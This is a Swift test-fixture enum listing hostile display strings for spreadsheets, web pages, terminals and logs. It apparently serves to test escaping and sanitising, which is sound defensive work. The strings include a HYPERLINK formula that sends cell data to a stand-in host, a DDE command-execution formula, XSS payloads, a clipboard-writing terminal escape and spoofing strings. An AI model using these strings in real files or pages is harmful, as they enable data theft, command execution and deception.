/// Common names that try to be something else in a spreadsheet, a page, a terminal or a log.
enum HostileNames {
  static let all: [String] = [
    "=HYPERLINK(\"http://x.example/\"&A1)", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1",
    "\r=1",
    "\0=1", " =1", "\u{A0}=1", "\u{FEFF}=1", "\u{202E}=1", "＝1+1", "'quoted", "007", "1E5", "TRUE",
    "a,\"b\"\r\nc", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
    "</title></style>-->]]>",
    "{{template}}${x}", "javascript:alert(1)", "\\\\host\\share", "\u{1B}[2J\u{1B}]52;c;eA==\u{7}",
    "\u{9B}31mred", "x\n{\"level\":\"error\"}", "ex\u{202E}moc.elpmaxe", "zero\u{200B}width",
    "p\u{0430}ypal.example.com", "e\u{301}\u{301}\u{301}\u{301}",
    "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}",
    "__proto__", "Acme Widgets, Inc.", "O=Acme\\, Inc", "is revoking certificate with CN=y",
    String(decoding: [0x78, 0xEF, 0xBF, 0xBE], as: UTF8.self),
    String(repeating: "long.", count: 400),
  ]
}
